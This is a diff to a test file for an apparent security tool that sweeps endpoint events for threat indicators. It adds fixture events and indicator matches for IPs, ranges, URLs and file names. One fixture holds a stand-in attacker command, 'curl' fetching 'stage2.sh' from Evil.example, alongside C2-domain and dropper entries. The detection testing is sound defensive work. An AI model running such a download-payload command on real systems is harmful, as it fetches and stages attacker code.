@@ -58,6 +58,9 @@ before(async () => {
     event('host-a', 40, 'network', 'connect', { 'process.pid': 4000, 'source.ip': '10.0.0.5', 'source.port': 50000, 'destination.ip': '203.0.113.7', 'destination.port': 4444, 'network.transport': 'tcp' }, 'connect'),
     event('host-a', 50, 'dns', 'query', { 'process.pid': 4000, 'dns.question.name': 'c2.Bad.Example.net' }),
     event('host-a', 60, 'network', 'connect', { 'process.pid': 4001, 'source.ip': '10.0.0.5', 'source.port': 50001, 'destination.ip': '2001:db8::1:2', 'destination.port': 443, 'network.transport': 'tcp' }),
+    event('host-a', 65, 'dns', 'query', { 'process.pid': 4002, 'dns.question.name': 'cdn.example.org', 'dns.resolved_ip': ['192.0.2.10', '198.51.100.99'] }, 'resolved'),
+    event('host-a', 66, 'process', 'start', { ...processStart('/usr/bin/curl', 'd'.repeat(64)), 'process.command_line': 'curl -s http://Evil.example/stage2.sh -o /tmp/s' }, 'curl'),
+    event('host-a', 67, 'file', 'create', { 'process.pid': 4003, 'file.path': '/tmp/Payload.BIN', 'file.name': 'Payload.BIN' }, 'file'),
   ]);
   await store.append('host-b', [
     event('host-b', 10, 'process', 'start', processStart('/usr/bin/dropper', evil), 'first'),
@@ -112,6 +115,10 @@ test('every indicator type matches its fields: ip, cidr (IPv4 and IPv6), domain 
     input('process_name', 'DROPPER'),
     input('path', '/usr/bin/dropper'),
     input('md5', 'd41d8cd98f00b204e9800998ecf8427e'),
+    input('ip', '198.51.100.99'),
+    input('cidr', '192.0.2.0/28'),
+    input('url', 'http://evil.example/stage2.sh'),
+    input('file_name', 'payload.bin'),
   ]);
   const count = (key: string) => byValue.get(key)?.count;
   assert.equal(count('ip:203.0.113.7'), 1);
@@ -125,8 +132,12 @@ test('every indicator type matches its fields: ip, cidr (IPv4 and IPv6), domain 
   assert.deepEqual(byValue.get('path:/usr/bin/dropper')!.hosts, ['host-b'], 'paths match exactly');
   assert.equal(count('md5:d41d8cd98f00b204e9800998ecf8427e'), 0);
   assert.equal(byValue.get('md5:d41d8cd98f00b204e9800998ecf8427e')!.firstEventId, null);
-  assert.equal(done.indicatorCount, 9);
-  assert.equal(done.matchedCount, 7);
+  assert.equal(byValue.get('ip:198.51.100.99')!.firstEventId, ids.resolved, 'addresses a name resolved to (dns.resolved_ip lists)');
+  assert.equal(byValue.get('cidr:192.0.2.0/28')!.firstEventId, ids.resolved, 'ranges in dns.resolved_ip lists');
+  assert.equal(byValue.get('url:http://evil.example/stage2.sh')!.firstEventId, ids.curl, 'URLs inside command lines');
+  assert.equal(byValue.get('file_name:payload.bin')!.firstEventId, ids.file, 'file names case-insensitively');
+  assert.equal(done.indicatorCount, 13);
+  assert.equal(done.matchedCount, 11);
 });
 
 test('values are bound parameters: a path with quotes and SQL text matches literally and breaks nothing', async () => {
@@ -137,7 +148,7 @@ test('values are bound parameters: a path with quotes and SQL text matches liter
   assert.ok(queries[0]!.params.includes(value));
   const { byValue } = await sweep([input('path', value)]);
   assert.equal(byValue.get(`path:${value}`)!.count, 0);
-  assert.equal((await store.countEvents({}, 'none'))[0]!.count, 7);
+  assert.equal((await store.countEvents({}, 'none'))[0]!.count, 10);
 });
 
 test('pushing the same indicators again updates them in place; expired indicators are stored but not swept', async () => {
@@ -170,7 +181,7 @@ test('values are checked and written canonically per type', () => {
   for (const [type, value] of [['md5', 'xyz'], ['sha256', 'a'.repeat(63)], ['ip', '300.1.1.1'], ['cidr', '10.0.0.0/33'], ['cidr', '10.0.0.1'], ['domain', 'bad domain'], ['port', '70000'], ['process_name', 'a/b'], ['path', '']] as const) {
     assert.throws(() => canonicalIndicatorValue(type, value, 'indicators[0].value'), (e: unknown) => e instanceof VigilError && e.code === 'invalid_input' && e.location?.path === 'indicators[0].value', `${type} ${value}`);
   }
-  assert.equal(indicatorTypes.length, 9);
+  assert.equal(indicatorTypes.length, 11);
 });
 
 test('a sweep interrupted by a stop resumes when the sweeper starts again', async () => {
